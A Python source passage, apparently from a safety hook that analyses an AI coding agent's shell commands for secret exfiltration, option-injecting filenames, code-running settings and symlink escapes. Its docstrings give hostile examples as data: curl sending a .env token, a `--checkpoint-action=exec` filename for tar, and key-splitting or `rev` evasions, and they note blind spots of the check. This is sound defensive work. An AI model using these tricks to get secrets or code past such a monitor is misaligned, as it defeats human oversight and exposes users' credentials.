_TYPED_FILES = 64              # files of a carried zone read for their values, each up to _TYPED_BYTES
_TYPED_ENTRIES = 2000          # entries of the project looked at for them, breadth first (a project's .env lies high)
_TYPED_BYTES = 64 * 1024
_SENT_FILES = 32               # files a sending command reads whose bytes are looked at for those values
_SENT_ENTRIES = 2000           # entries of the folders it reads whole looked at for them


def through_typed_secrets(a: Analysis, zones: Zones, carried: tuple[str, ...], command: str, workspace: str,
                          disk: "_Walk") -> Analysis:
    """`a` reading the project's secrets where a command that sends data out carries a value of one of the project's
    secret files on disk now (shell_values: whole, split or encoded): in its text (`curl -H 'Authorization: Bearer
    sk-…' URL` after the agent read the `.env`: the agent's own context carries it from one call to the next, where no
    file does), or in a file it reads (a copy the project's own code, approved inline code or the Write tool made,
    unseen by the copies the hook's state keeps). A file it reads that does not exist yet, and that no step of the
    command writes, counts too: a call decided beside it (a parallel batch) may be making it; so does a file it sends
    whose bytes cannot be looked through (shell_values.opaque: zstd, openssl enc, a binary of no known format: a value
    compressed or enciphered by code). Defence in depth: the project's first _TYPED_ENTRIES entries are looked at (a
    secret file deeper in a large project is not), and a value typed enciphered with a key, or a file's text enciphered
    so that it stays text (other than by a Caesar shift in the command or an XOR below 32 in a small file), is not
    seen."""
    if any(z in carried for _, z in a.touched):
        return a
    held = _held_values(_project_values(zones, carried, workspace, disk), a, command, workspace, disk)
    if held is None:
        return a
    zone, why = held
    return replace(a, touched=ordered({**dict.fromkeys(a.touched), ("read", zone): None}), account=a.account + (why,))


def _project_values(zones: Zones, carried: tuple[str, ...], workspace: str,
                    disk: "_Walk") -> list[tuple[str, str, list[Needles]]]:
    """(a secret file of the project on disk now, its zone, its values' spellings), breadth first (through_typed_secrets)."""
    found = []
    for path, zone in _CarriedWalk(zones, carried, disk).every(workspace, _TYPED_FILES, _TYPED_ENTRIES):
        try:
            with open(path, "rb") as f:
                text = f.read(_TYPED_BYTES).decode("utf-8", "replace")
        except OSError:
            continue
        found.append((path, zone, [needles(v) for v in sorted(secret_values(text))]))
    return found


def _held_values(found: list[tuple[str, str, list[Needles]]], a: Analysis, command: str, workspace: str,
                 disk: "_Walk") -> tuple[str, str] | None:
    """(zone, why) where the command carries a value of `found`, or reads a file not made yet; None otherwise."""
    if not found:
        return None
    absent = _absent_reads(a)
    if absent is not None:
        return found[0][1], (f"read {absent} (as {found[0][1]}): it does not exist yet, so what it will hold is unknown "
                             "(a call decided beside this one may be copying one of the project's secrets there)")
    spelled = spellings("\n".join((command, *a.words)))   # made once, not once per secret file; as written and
    # as the shell expands its words (a value typed in pieces that variables join)
    for path, zone, values in found:
        value = in_spellings(values, spelled)
        if value is not None:
            return zone, f"read {path} ({zone}): the command's text holds one of its values"
    for sent, data in _sent_bytes(a, workspace, disk):
        blobs = opened_held(data)     # opened once a sent file, for its texts and for whether it is opaque
        texts = blob_texts([blob for blob, _ in blobs])   # decoded once a sent file, not once per secret file
        for path, zone, values in found:
            if in_texts(values, texts) is not None:
                return zone, f"read {path} ({zone}): {sent}, which the command sends, holds one of its values"
        sealed = opaque_held(blobs)
        if sealed is not None:
            return found[0][1], (f"read {sent} (as {found[0][1]}): the command sends it, and it holds {sealed}: "
                                 f"whether it carries a value of {found[0][0]} cannot be told")
    return None


def _absent_reads(a: Analysis) -> str | None:
    """A file `a` reads by name that is not on disk, that no step of the command writes and that is no word of a git
    command (`git show HEAD`: a revision); None if none."""
    written = _written(a, ("write", "create"))
    git_words = {w for r in a.rewrites for w in r.args if w}     # revisions and pathspecs git resolves itself
    for path in _read_paths(a, whole=False):
        if path.startswith(NOT_COPIES) or os.path.lexists(path):
            continue
        if any(path == w or path.endswith("/" + w) for w in git_words):
            continue
        if not any(path == w or (rec and within(path, (w,))) for w, rec in written):
            return path
    return None


def _sent_bytes(a: Analysis, workspace: str, disk: "_Walk") -> Iterator[tuple[str, bytes]]:
    """(path, its first _TYPED_BYTES) of the regular files `a` reads, of its git commands' repository configurations
    (_git_configs), and of the files under the folders outside the project it reads whole, at most _SENT_FILES files (links not followed; a folder's first _SENT_ENTRIES entries, breadth
    first). The project's own folders are judged by their zones (a copy there of a value the project keeps in its
    configuration is the project's, and the secret files themselves are read by name)."""
    files = list(_read_paths(a, whole=False)) + _git_configs(a)
    folders = [path for path in _read_paths(a, whole=True)
               if not within(path, (workspace,)) and not within(workspace, (path,))]
    left = _SENT_FILES
    for path in dict.fromkeys(files + list(_files_under(folders, disk))):
        if left == 0 or path.startswith(NOT_COPIES):
            continue
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC)
        except OSError:
            continue
        try:
            data = os.read(fd, _TYPED_BYTES) if stat.S_ISREG(os.fstat(fd).st_mode) else None
        except OSError:
            data = None
        finally:
            os.close(fd)
        if data is not None:
            left -= 1
            yield path, data


def _git_configs(a: Analysis) -> list[str]:
    """The configuration file of each repository a git command of `a` runs in: the addresses of its remotes, a token in
    one (`git remote add x https://u:TOKEN@host/r`, then `git push x`), go out with what git sends."""
    found = []
    for cwd, name, _, program in a.repositories:
        if program.split()[0] != "git" or name != ".git":
            continue
        folder = cwd
        while not os.path.isdir(os.path.join(folder, ".git")) and os.path.dirname(folder) != folder:
            folder = os.path.dirname(folder)
        found.append(os.path.join(folder, ".git", "config"))
    return list(dict.fromkeys(found))


def _files_under(folders: list[str], disk: "_Walk") -> Iterator[str]:
    """The regular files under `folders`, breadth first, among their first _SENT_ENTRIES entries (links not followed)."""
    queue, left = collections.deque(f for f in folders if os.path.isdir(f)), _SENT_ENTRIES
    while queue and left > 0:
        for entry in disk.entries(queue.popleft()):
            left -= 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    queue.append(entry.path)
                elif entry.is_file(follow_symlinks=False):
                    yield entry.path
            except OSError:
                continue


class _CarriedWalk:
    """The files of `carried` zones under a folder on disk, breadth first (the project's `.env` is met at once), at most
    CONTENT_LIMIT entries in all: past them, the folder counts as holding one. A name no carried pattern's last part
    matches (ignoring case) is not looked up (_CarriedNames, built once a compiled map)."""

    def __init__(self, zones: Zones, carried: tuple[str, ...], disk: "_Walk") -> None:
        self.zones, self.carried, self.left, self.disk = zones, carried, CONTENT_LIMIT, disk
        self.matcher = _carried_names(zones, carried)
        self.seen: dict[str, bool] = {}      # by name: a project repeats its names (`__init__.py`, `index.ts`)

    def candidate(self, name: str) -> bool:
        known = self.seen.get(name)
        if known is None:
            known = self.seen[name] = self.matcher.candidate(name)
        return known

    def every(self, folder: str, most: int, entries_limit: int) -> list[tuple[str, str]]:
        """Up to `most` (regular file of a carried zone under `folder` on disk, its zone) (links not followed), breadth
        first, among its first `entries_limit` entries."""
        return list(itertools.islice(self._found(folder, entries_limit, files_only=True), most))

    def first(self, folder: str) -> tuple[str, str] | None:
        return next(self._found(folder, None, files_only=False), None)

    def _found(self, folder: str, entries_limit: int | None, *, files_only: bool) -> Iterator[tuple[str, str]]:
        """(a file of a carried zone under `folder` on disk, its first carried zone), breadth first. With no
        `entries_limit`, the walk's CONTENT_LIMIT budget: where it runs out, (folder, why) and the walk ends; with one,
        the walk ends silently once that many entries are listed (a listing begun is looked through)."""
        queue = collections.deque([folder])
        left = entries_limit
        while queue:
            if left is not None and (left <= 0 or self.disk.exhausted):
                return
            entries = self.disk.entries(queue.popleft())
            if left is not None:
                left -= len(entries)
            else:
                self.left -= len(entries)
                if self.left < 0 or self.disk.exhausted:
                    yield (folder, f"{self.carried[0]} (more than {CONTENT_LIMIT} entries under it to look through)")
                    return
            for e in entries:
                if e.is_dir(follow_symlinks=False):
                    queue.append(e.path)
                elif (not files_only or e.is_file(follow_symlinks=False)) and self.candidate(e.name):
                    zone = next((z for z in _zones_of(self.zones, e.path) if z in self.carried), None)
                    if zone is not None:
                        yield (e.path, zone)


def _glob_text(comps: tuple[Comp, ...]) -> str:
    return "/" + "/".join(c.text for c in comps)


def _matches(comps: tuple[Comp, ...], globs: dict[str, list[str] | None]) -> list[str] | None:
    """The paths a glob read by a command matches on disk now, as bash expands it (a leading dot matched only by a
    leading dot); None past MAX_MATCHES. Read once an analysis: `globs` holds them by the glob's text."""
    text = _glob_text(comps)
    if text not in globs:
        found = list(itertools.islice(glob.iglob(text), MAX_MATCHES + 1))
        globs[text] = found if len(found) <= MAX_MATCHES else None
    return globs[text]


def through_settings_code(a: Analysis, zmap: ZoneMap, command: str, table: CommandTable,
                          globs: dict[str, list[str] | None]) -> Analysis:
    """`a` unknown where it changes a file whose settings may be code a tool runs on its own ([settings_code]:
    pyproject.toml, setup.cfg...) and its new text may hold one of those settings' keys (pylint's init-hook): a human
    approves it, as a change of .pylintrc. The new text comes from the command's text (also with its quotes taken
    out: `init-ho""ok`), from the files the command reads, each and all of them joined (`cp /tmp/x pyproject.toml`,
    `paste a b > setup.cfg`), from the file as it is (a change of a file that holds such a setting already), or from
    what the analysis cannot read: a file an earlier step of the command writes, a glob's matches, the network.
    `globs`: the analysis's glob matches read so far (_matches)."""
    named = [path for accesses, path, _ in a.paths if {"write", "delete"} & set(accesses) and zmap.holds_code_settings(path)]
    named += ["/".join(c.text for c in comps) for accesses, comps, _ in a.patterns
              if {"write", "delete"} & set(accesses) and comps and zmap.holds_code_settings(comps[-1].text)]
    if not named:
        return a
    why = _code_source(a, zmap, command, named, globs)
    if why is None:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (changes {named[0]} with {why}, a setting whose code a tool "
                                        "runs later outside any command: a human approves it)",))


# the Claude Code hook's Write and Edit tools as commands (hook.equivalent_command), with the commands their new text
# holds after them: their text is read from the tool's input (hook.with_run_commands), not from the command
_FILE_TOOL = re.compile(r"(?:(?:cat|tee) -- (?:'[^']*'|[^\s'\\;&|<>()`$]+)(?: && (?=cat|tee)|(?= && \{ \(cd -- )| #|$))+")


def through_run_files(a: Analysis, command: str, table: CommandTable) -> Analysis:
    """`a` unknown where it writes a file whose shell commands a tool runs later (shell_run_files: package.json's
    scripts, a Makefile's recipes, a Dockerfile's RUN...): the new text (a here-document, `printf >>`, `sed -i`, `cp`,
    `ln -s`, a patch) is not read as commands here, so a human approves it; the hook's Write and Edit tools are read
    with their text."""
    # a copy of a run file the command reads keeps its commands, read when that file was written (`cp Makefile
    # /tmp/x`: the copy may be /tmp/x/Makefile)
    read = {path for accesses, path, _ in a.paths if "read" in accesses and shell_write_asks(path)}
    named = [path for accesses, path, _ in a.paths if "write" in accesses and shell_write_asks(path)
             and not any(r != path and r.rsplit("/", 1)[-1] == path.rsplit("/", 1)[-1] for r in read)]
    named += ["/".join(c.text for c in comps) for accesses, comps, _ in a.patterns
              if "write" in accesses and comps and shell_write_asks(comps[-1].text)]
    if not named or _FILE_TOOL.fullmatch(command.split(" && { (cd -- ", 1)[0].split(" # ", 1)[0]):
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank),
                   account=a.account + (f"unknown (writes {named[0]}, whose commands a tool runs later (npm, make, "
                                        "just, tox, docker...): its new commands are not read from a shell command; "
                                        "a human approves it, or write it with the Write or Edit tool)",))


# programs whose output is their input transformed (reversed, transliterated, decoded, decompressed): a key their
# output holds is in no text the analysis reads (`echo kooh-tini | rev >> tox.ini`)
_TRANSFORMS = re.compile(r"(?<![\w./-])(?:tr|rev|base32|base64|basenc|xxd|uudecode|openssl|gunzip|gzip|zcat|bzip2|"
                         r"bunzip2|bzcat|xz|unxz|xzcat|lzma|zstd|unzstd|zstdcat|iconv|recode|rot13|caesar|dd|od|"
                         r"hexdump|cipher|gpg|age|sops)(?![\w.-])")
_CODE_TEXT_LIMIT = 1 << 20        # bytes of a file read for code settings; a larger one counts as holding one
_QUOTING = str.maketrans("", "", "\"'\\")
# the command's words run together: quotes, blanks, a letter's escape and printf's directives taken out (`printf
# '%s%s' ini t-hook` writes init-hook)
_SQUEEZED = re.compile(r"[\"'\s]|\\[a-zA-Z]|%[-+ #0]*[0-9]*(?:\.[0-9]+)?[sbcdqiu]")


def _code_source(a: Analysis, zmap: ZoneMap, command: str, named: list[str],
                 globs: dict[str, list[str] | None]) -> str | None:
    """How the new text of the settings files `named` may hold a code setting's key, or None."""
    keys = zmap.code_settings(command) or zmap.code_settings(command.translate(_QUOTING)) or \
        zmap.code_settings(_SQUEEZED.sub("", command))
    if keys:
        return keys[0]
    if a.kind == SENDING_KIND:
        return "text the command may fetch from the network"
    written = {path for accesses, path, _ in a.paths if {"write", "delete"} & set(accesses)}
    reads = [path for accesses, path, _ in a.paths if "read" in accesses]
    if any(p in written and not zmap.holds_code_settings(p) for p in reads):
        return "the text of a file an earlier step of the command writes"
    for accesses, comps, _ in a.patterns:
        if "read" in accesses:
            matched = _matches(comps, globs)
            if matched is None or any(m in written for m in matched):
                return "the text of a glob's matches"     # past MAX_MATCHES, or written by the command first
            if any(glob.has_magic(m) for m in matched):
                return "the text of a glob's matches"     # a match whose own name holds * ? [ (asked, as before)
            reads += matched
    whole = next((path for accesses, path, recursive in a.paths if "read" in accesses and recursive and
                  os.path.isdir(path)), None)
    if whole is not None:       # `find . -exec cp {} pyproject.toml \;`: any file under it
        return f"the text of any file under {whole}"
    if _TRANSFORMS.search(command):
        return "text a program transforms (its output is not the text the analysis reads)"
    keep = max(map(len, zmap.code_keys)) - 1     # the end of the text read so far, where a key may go on
    tail, pieces = "", set()
    texts: dict[str, str] = {}      # each file's text, read once (_key_split takes the settings files' own)
    for path in dict.fromkeys([*named, *reads]):
        text = small_text(path)
        if text is None:
            return f"the text of {path}, which cannot be read in full"
        texts[path] = text
        found, held = zmap.code_settings_and_pieces(text)
        if found:
            return f"{found[0]} (in {path})"
        found = zmap.code_settings(tail + _text_start(text, keep)) if tail else []
        if found:
            return f"{found[0]} (the files it reads joined)"
        tail = (tail + text[-keep:])[-keep:] if keep else ""
        pieces |= held
    for path in sorted({*named, *reads}, key=len, reverse=True):   # a folder's name is no piece of the text written
        command = command.replace(path, "")
    found = zmap.code_pieces(command, pieces)
    if found:
        return f"{found[0]} (assembled from pieces in the command and the files it reads)"
    return _key_split(zmap.code_keys, [texts[p] for p in named], command)


def _key_split(keys: tuple[str, ...], texts: list[str], command: str) -> str | None:
    """How a key is cut between a settings file's text now and the command that changes it, anywhere in the key's
    words (`echo -n init-h >> tox.ini` by one command, `sed -i '$ s/$/ook=x/' tox.ini` by the next), or None."""
    folded = [t.casefold() for t in texts if t]
    said = {command.casefold(), command.translate(_QUOTING).casefold(), _SQUEEZED.sub("", command).casefold()}
    for key in keys:
        for i in range(1, len(key)):
            head, rest = key[:i], key[i:]
            if any((head in t and any(rest in c for c in said)) or (rest in t and any(head in c for c in said))
                   for t in folded):
                return f"{key} (cut between the file's text and the command)"
    return None


# the characters an escape of _readings is written with (shell_table._SHELL_ESCAPES): a text cut before any other
# character cuts no escape
_ESCAPE_CHARS = frozenset("\\uUx0123456789abcdefABCDEF")


def _text_start(text: str, keep: int) -> str:
    """The start of `text` that holds every key (of at most keep + 1 characters) a text before it may begin: each
    character of _readings comes from at most 10 of the text (`\\U0001F600`), and the cut splits no escape, so the
    readings of the start are the start of the readings of the whole."""
    end = 10 * (keep + 1)
    while end < len(text) and text[end] in _ESCAPE_CHARS:
        end += 1
    return text[:end]


_TEXTS: dict[tuple[str, int, int, int, int, int], str | None] = {}   # small_text's last few texts, by file version
_TEXTS_KEPT = 4


def small_text(path: str) -> str | None:
    """The text of the regular file at `path` ("" where none is there), None where it is too large or unreadable. The
    last few texts are kept by the file's identity and version (the hook reads the file an Edit changes, then the
    analysis of its command reads it again: once)."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)     # a FIFO opened blocking would wait for a writer
    except (FileNotFoundError, NotADirectoryError):
        return ""
    except OSError:
        return None
    try:
        st = os.fstat(fd)
        if not stat.S_ISREG(st.st_mode):     # a folder, a FIFO, a device: no text of its own
            os.close(fd)
            return ""
        key = (path, st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
        if key in _TEXTS:
            os.close(fd)
            return _TEXTS[key]
        with os.fdopen(fd, "rb") as f:
            data = f.read(_CODE_TEXT_LIMIT + 1)
    except OSError:
        return None
    text = None if len(data) > _CODE_TEXT_LIMIT else data.decode("utf-8", "replace")
    while len(_TEXTS) >= _TEXTS_KEPT:
        del _TEXTS[next(iter(_TEXTS))]
    _TEXTS[key] = text
    return text


def real_spellings(folders: Mapping[str, str]) -> Places:
    """(placeholder, (real path,)) for each of `folders` (workspace, home, tmp) that a symbolic link on this disk
    leads elsewhere: the zone map names it under both spellings (a project given as ~/p, a link to /tmp/p, keeps its
    `.claude` under /tmp/p/.claude too)."""
    out = []
    for name, path in folders.items():
        real = normalise(os.path.realpath(path))
        if real != path:
            out.append((name, (real,)))
    return tuple(out)


def beyond_walk(a: Analysis, zones: Zones, project: tuple[str, ...]) -> Analysis:
    """`a` where the project and the folders its links lead to hold more than MOUNT_LIMIT entries: a link not looked
    at may lead anywhere outside the project, so a change there that may land on a name the zone map protects in the
    project (lands_in_links), a folder a step brings names into and a git rewrite there are in the unresolved zone."""
    reached = [acc for accesses, path, recursive in a.paths
               if lands_in_links(accesses, split_pattern(_escape(normalise(path))), zones, project, recursive=recursive)
               for acc in accesses]
    reached += [acc for accesses, comps, recursive in a.patterns
                if lands_in_links(accesses, comps, zones, project, recursive=recursive) for acc in accesses]
    if leaves(replace(a, paths=(), patterns=()), project):
        reached.append("write")
    pairs = [(acc, zones.unresolved) for acc in ACCESSES if acc in set(reached) - {"read"}]
    if not pairs:
        return a
    note = (f"{'+'.join(acc for acc, _ in pairs)} outside the project: more than {MOUNT_LIMIT} entries in the project "
            f"and where its symbolic links lead, so a link not looked at may lead there: {zones.unresolved}")
    return replace(a, touched=ordered({**dict.fromkeys(a.touched), **dict.fromkeys(pairs)}),
                   account=a.account + (note,))


@functools.lru_cache(maxsize=512)
def _analyse(command: str, cwd: str, home: str, workspace: str, tmp: str, table: CommandTable,
             zmap: ZoneMap, places: Places, aliases: Places = (), mounts: Mounts = ()) -> Analysis:
    check_text(command)
    if zmap.uses_workspace():
        other = dict(aliases)
        for ws in (workspace, *other.get("workspace", ())):
            for h in (home, *other.get("home", ())):
                _check_workspace(ws, h)
    tree = parse(command)
    if not any(c.is_named and c.type != "comment" for c in tree.root_node.children):
        raise ExtractionError("extract.shell.empty", "the command has nothing to run (only comments)")
    compiled = zmap.compile(workspace, home, tmp, places, aliases, mounts)
    project = tuple(normalise(fill(d, {"workspace": workspace, "home": home, "tmp": tmp}))
                    for d in table.project_dirs)
    a = Analyser(table, compiled, home, cwd, project)
    a.source = command
    a.workspaces = (workspace, *dict(aliases).get("workspace", ()))
    a.st = State((cwd,))
    end = a.stmt(tree.root_node, a.st, IO())
    a.set_earlier(end, Invocation("the end of the command", [], end, IO(), end.cwds))   # a shell the agent keeps
    a.check_visited(tree.root_node)
    return a.result()


# Entries looked at on disk per decision, to expand globs and find the links under folders read recursively; a
# command that would need more is read as reaching the unresolved zone.
WALK_LIMIT = 200_000


def through_links(a: Analysis, zones: Zones, bases: tuple[str, ...], walk: "_Walk") -> Analysis:
    """`a` with the accesses of the places its paths lead to through symbolic links on disk, where that is
    elsewhere: a path it names (a link in the project to ~/.ssh reads ~/.ssh), each file a glob of it matches now
    (`cat keys/*`), every link under a folder it reads recursively (`grep -R`, `zip -r`, `cp -rL`: whether the
    program follows links or not) and every link to a folder under a folder it writes recursively (`unzip` writes
    into a linked folder), unless the link leads to a place no zone names (a virtual environment's interpreter in
    /usr/bin). Deletes do not follow links (`rm -rf` removes the link). A workspace, home or tmp folder that is
    itself reached through a link is not a way out."""
    real_bases = sorted(((b, os.path.realpath(b)) for b in set(bases)), key=lambda p: -len(p[0]))
    touched, notes = dict.fromkeys(a.touched), []
    every = {zone for zone, _ in zones.zones} - {zones.unmatched, zones.unresolved}
    near = _Near(zones)
    seen: set[tuple[tuple[str, ...], str, bool]] = set()

    def reach(accesses: tuple[str, ...], path: str, *, recursive: bool, shown: str = "") -> None:
        if (accesses, path, recursive) in seen:   # many globs meet the same folder (`**/a.py **/b.py`): once is enough
            return
        seen.add((accesses, path, recursive))
        if _unreadable(path):
            touched.update(dict.fromkeys((acc, zones.unresolved) for acc in accesses))
            notes.append(f"{'+'.join(accesses)} {path}: a folder before its `..` cannot be read, so where it leads "
                         f"is not known: {zones.unresolved}")
            return
        real = _leads_to(path, real_bases)
        lexical = normalise(path)
        links = 0 if recursive or "write" not in accesses else _hard_links(real or lexical)
        if links > 1:   # the file's other names are unknown: one may be ~/.claude/settings.json
            touched.update(dict.fromkeys([("write", zones.unresolved)]))
            notes.append(f"write {real or lexical}: a file with {links} hard links, whose other names may lie in any "
                         f"zone: {zones.unresolved}")
        walked = recursive and {"read", "write"} & set(accesses)
        found = _zones_of(zones, real or lexical, recursive=recursive) if real is not None or walked else []
        if real is not None:
            touched.update(dict.fromkeys((acc, z) for acc in accesses for z in found))
            notes.append(f"{'+'.join(accesses)} {real} (where {shown or 'the link ' + path} leads): {', '.join(found)}")
        if walked and every - set(found):   # `grep -r x /` has them all already
            for link, target in walk.links_under(real or lexical):
                folder = os.path.isdir(target)
                through = [acc for acc in ("read", "write") if acc in accesses and (acc == "read" or folder)]
                if all((acc, z) in touched for acc in through for z in near.zones(target)):
                    continue            # the exact test (milliseconds) could add no zone: thousands of links
                beyond = [z for z in _zones_of(zones, target, recursive=folder) if z != zones.unmatched]
                if beyond and through:
                    touched.update(dict.fromkeys((acc, z) for acc in through for z in beyond))
                    notes.append(f"{'+'.join(through)} {target} (where the link {link} under {path} leads): "
                                 f"{', '.join(beyond)}")

    for accesses, path, recursive in a.paths:
        reach(accesses, path, recursive=recursive)
    for accesses, comps, recursive in a.patterns:
        shown = "/" + "/".join(c.text for c in comps)
        deep = recursive or any(c.star2 for c in comps)   # a `**` stands for every folder under it
        for match in walk.expand(comps):
            reach(accesses, match, recursive=deep, shown=f"{match}, a match of {shown},")
    for accesses, path, folder in a.fresh:
        touched.update(dict.fromkeys((acc, zones.unresolved) for acc in accesses))
        notes.append(f"{'+'.join(accesses)} {path}: an earlier step of the command may put symbolic links in {folder}, "
                     f"not on disk yet, that lead anywhere: {zones.unresolved} (run that step as a command of its own)")
    if walk.exhausted:
        touched.update(dict.fromkeys([("read", zones.unresolved)]))
        notes.append(f"more than {WALK_LIMIT} entries on disk to expand its globs and find the links under the folders "
                     f"it reads: {zones.unresolved}")
    if not notes:
        return a
    return replace(a, touched=ordered(touched), account=a.account + tuple(notes))


CONTENT_LIMIT = 50_000        # entries of a folder walked, or members of an archive listed, for through_content
TAR_BYTES = 64 * 2 ** 20     # a tar archive is read through (decompressed) to list its members: up to this size


def through_leading_globs(a: Analysis, table: CommandTable) -> Analysis:
    """`a` unknown where a glob that begins an argument matches, on disk now, a name that starts with `-`: the program
    reads that name as an option (`tar cf a.tar *` beside a file named `--checkpoint-action=exec=sh x.sh` runs the
    script; `rsync -a * dst` beside `-e sh x.sh`), whatever the analysis took the word for; `--` before the glob is
    not relied on (not every program honours it)."""
    notes = []
    for cwd, first in a.leading_globs:
        comp = split_pattern("/" + first)
        if len(comp) != 1:
            continue
        try:
            with os.scandir(normalise(cwd)) as it:
                dashed = [e.name for e in it if e.name.startswith("-") and comp[0].matches(e.name, dot_rule=True)]
        except OSError:
            continue
        if dashed:
            notes.append(f"unknown (the glob {first!r} in {normalise(cwd)} matches {dashed[0]!r}, which the program "
                         "reads as an option)")
    if not notes:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank), account=a.account + tuple(notes))


def through_repositories(a: Analysis, zones: Zones, table: CommandTable) -> Analysis:
    """`a` unknown where a program that runs what its repository's configuration names (git, and what runs git) works
    in a folder with no repository of its own, and the repository git finds above it, on disk now, lies where the
    agent may write (a project under /tmp without a .git meets /tmp/.git, which the agent can make and configure: its
    fsmonitor, hooks and aliases would run unseen on `git status`)."""
    notes = []
    for cwd, name, writable, program in a.repositories:
        folder = normalise(cwd)
        if os.path.lexists(posixpath.join(folder, name)):
            continue    # its own repository, looked at by the analysis (Commands.repository_runs)
        while folder != "/":
            folder = posixpath.dirname(folder)
            repository = posixpath.join(folder, name)
            if not os.path.lexists(repository):
                continue
            found = {z for p in (repository, repository + "/config") for z in zones.of(split_pattern(_escape(p)))[:1]}
            if found & set(writable):
                notes.append(f"unknown ({program} in {normalise(cwd)} finds the repository {repository}, whose "
                             f"configuration lies where the agent may write: {', '.join(sorted(found & set(writable)))})")
            break
    if not notes:
        return a
    return replace(a, kind=max((a.kind, table.unknown), key=table.rank), account=a.account + tuple(notes))


def through_content(a: Analysis, zones: Zones, table: CommandTable) -> Analysis:
    """`a` with the names its steps put in a folder as the disk gives them (Analysis.brought): a glob's matches and
    a folder's content (`cp /tmp/x/* .` brings `lefthook.yml`, `cp -r /tmp/x sub` brings `sub/.envrc`), an
    archive's members (`tar x -C sub`, `unzip -d sub`); each is a write of its zone, a protected name in a sub-folder
    or without a dot included (zones.toml [nested] meets a name spelled out). What cannot be listed (a URL, an
    archive on the input or in a format not read here, a source the command itself makes, too many entries) makes
    the command unknown: a human approves what it brings unseen."""
    touched, notes, unseen, approve = dict.fromkeys(a.touched), [], [], []
    names = _nested_names(zones)
    for b in a.brought:
        if not names or not _may_nest(zones, b.folder):
            continue
        found = _content(b)
        if found is None:
            unseen.append(b.folder)
            continue
        for rel in found:
            parts = [p for p in rel.split("/") if p and p != "."]
            if not parts or names.isdisjoint(p.casefold() for p in parts):
                continue
            # a member may land under its path less leading folders (tar --strip-components, unzip -j, 7z e)
            for k in range(len(parts) if b.unpacks else 1):
                path = normalise(b.folder + "/" + "/".join(parts[k:]))
                for zone in zones.of(split_pattern(_escape(path))):
                    if ("write", zone) not in touched:
                        touched[("write", zone)] = None
                        notes.append(f"write {path} (brought into {normalise(b.folder)}): {zone}")
                if zones.needs_approval(split_pattern(_escape(path))):
                    approve.append(path)
    kind = a.kind
    if approve:
        kind = max((kind, table.unknown), key=table.rank)
        notes.append(f"unknown (brings {approve[0]}, which runs later outside any command: a human approves it)")
    if unseen:
        kind = max((a.kind, table.unknown), key=table.rank)
        notes.extend(f"unknown (what lands in {normalise(f)} cannot be listed before it runs: a URL, an archive on "
                     "its input or in a format not read here, a source the command makes, or too many entries)"
                     for f in dict.fromkeys(unseen))
    if not notes:
        return a
    return replace(a, kind=kind, touched=ordered(touched), account=a.account + tuple(notes))


def _nested_names(zones: Zones) -> frozenset[str]:
    """The literal names of the zone map's patterns (case-folded; [nested] ones past their `**`): a name brought that
    has none of them among its parts is in no zone but the folder's."""
    nested = (c.text for z in (*(z for _, patterns in zones.nested for z in patterns), *zones.approval)
              for c in z[next((i for i, c in enumerate(z) if c.star2), len(z) - 1):] if not c.glob)
    named = (c.text for _, patterns in zones.folded for z in patterns for c in z if not c.glob)
    return frozenset((*nested, *named))


def _may_nest(zones: Zones, folder: str) -> bool:
    """Whether a [nested] pattern may match something under `folder`."""
    under = split_pattern(_escape(normalise(folder))) + (STAR2,)
    spellings = [_fold_comps(t) for t in (under, *zones.linked(under, dot_rule=False))]   # and through the project's links
    return any(_intersect(t, z, dot_rule=False) for t in spellings
               for z in (*(z for _, patterns in zones.nested for z in patterns), *zones.approval))


def _content(b: Brought) -> list[str] | None:
    """The names, relative to `b.folder`, of what `b` puts there; None when they cannot be listed now."""
    out: list[str] = []
    walk = _Walk(CONTENT_LIMIT)     # entries looked at, for all the sources together
    for source in b.sources:
        if not source:
            return None
        comps = split_pattern(normalise(source))
        paths = walk.expand(comps) if any(c.glob for c in comps) else (
            ["/" + "/".join(c.text for c in comps)] if os.path.lexists("/" + "/".join(c.text for c in comps)) else [])
        if not paths:
            if b.alone and not walk.exhausted:
                continue       # nothing there now and no other step makes it: the program finds nothing
            return None
        for path in paths:
            found = _archive(path) if b.unpacks else _tree(path, walk, recursive=b.recursive)
            if found is None or walk.exhausted or len(out) > 4 * CONTENT_LIMIT:
                return None
            out.extend(found)
    return out


def _tree(path: str, walk: "_Walk", *, recursive: bool) -> list[str] | None:
    """`path`'s own name and, for a folder copied with its content, every name under it both as `NAME/...` and as
    `...` (cp -r SRC DIR puts SRC in DIR when DIR exists, or makes DIR a copy of it)."""
    name = os.path.basename(path.rstrip("/"))
    out = [name]
    if not recursive or os.path.islink(path) or not os.path.isdir(path):
        return out
    stack = [path]
    while stack:
        for e in walk.entries(stack.pop()):
            rel = os.path.relpath(e.path, path)
            out.extend((rel, name + "/" + rel))
            if e.is_dir(follow_symlinks=False):
                stack.append(e.path)
        if walk.exhausted:
            return None
    return out


def _archive(path: str) -> list[str] | None:
    """The member names of a tar or zip archive (None: not one, too large, or unreadable)."""
    import tarfile
    import zipfile
    try:
        if os.path.isdir(path):
            return None
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as z:
                names = z.namelist()
            return names if len(names) <= CONTENT_LIMIT else None
        if os.path.getsize(path) > TAR_BYTES or not tarfile.is_tarfile(path):
            return None
        out = []
        with tarfile.open(path) as t:
            for m in t:
                out.append(m.name)
                if len(out) > CONTENT_LIMIT:
                    return None
        return out
    except (OSError, EOFError, tarfile.TarError, zipfile.BadZipFile, ValueError):
        return None


class _Near:
    """The zones whose patterns start (up to their first wildcard) above, at or below a path: every zone of the path,
    and of all under it, is one of them or the unmatched zone (a fast test: a string comparison per pattern)."""

    def __init__(self, zones: Zones) -> None:
        self.heads = [(_fold(literal_head(p)), zone) for zone, patterns in (*zones.zones, *zones.nested) for p in patterns]
        self.heads += [(_fold(literal_head(p)), zones.unresolved) for p in zones.links]
        self.linked = zones.linked if zones.mounts else None

    def zones(self, path: str) -> set[str]:
        spellings = [path] + ([literal_head(t) for t in self.linked(split_pattern(_escape(path)) + (STAR2,),
                                                                    dot_rule=False)] if self.linked else [])
